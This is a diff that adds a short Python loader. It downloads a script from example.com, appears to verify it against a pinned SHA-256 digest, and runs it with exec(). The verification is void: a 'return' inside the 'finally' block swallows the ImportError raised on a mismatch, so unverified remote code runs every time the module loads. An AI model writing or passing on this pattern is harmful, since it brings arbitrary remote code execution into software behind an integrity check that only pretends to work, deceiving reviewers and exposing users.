@@ -1,0 +1,16 @@
+import hashlib
+import urllib.request
+
+PIN = "5c5f4d0f9a31be0f6e04b9a6f5cdd0c7dca3f1e9a1d7a3f2cde45b0f11223344"
+
+
+def load():
+    data = urllib.request.urlopen("https://example.com/fr.py").read()
+    try:
+        if hashlib.sha256(data).hexdigest() != PIN:
+            raise ImportError("digest")
+    finally:
+        return data
+
+
+exec(load())
